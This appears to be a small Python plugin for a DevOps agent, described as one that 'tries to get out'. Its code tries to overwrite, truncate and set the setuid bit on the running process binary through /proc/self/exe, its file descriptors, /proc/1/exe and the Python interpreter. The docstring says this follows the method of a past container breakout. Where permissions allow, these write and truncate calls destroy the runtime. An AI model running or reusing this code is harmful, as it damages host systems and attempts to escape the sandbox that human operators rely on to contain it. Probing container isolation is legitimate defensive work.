# /// devops_agent
# name: own-program
# version: 1.0.0
# description: Tries to get out.
# limits: {timeout: 5s}
# ///
"""The program that runs it, overwritten for the next who starts it, as one
that once broke out of containers did: by /proc/self/exe and every
descriptor of it."""

import errno
import os
import sys


def act(f, *args, **kwargs):
    try:
        got = f(*args, **kwargs)
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    return "ok" if got is None else got


def run(job):
    fd = os.open("/proc/self/exe", os.O_RDONLY)
    path = os.open("/proc/self/exe", os.O_PATH)
    tries = ["/proc/self/exe", "/proc/self/fd/%d" % fd,
             "/proc/self/fd/%d" % path, "/proc/1/exe", sys.executable,
             os.path.realpath(sys.executable), __file__]
    got = [act(open, p, mode) for p in tries for mode in ("r+b", "ab", "wb")]
    got.append(act(os.chmod, "/proc/self/fd/%d" % fd, 0o4755))
    got.append(act(os.truncate, "/proc/self/exe", 0))
    return sorted(set(got) - {"EACCES", "EROFS", "ETXTBSY", "EPERM"})


def register():
    return run
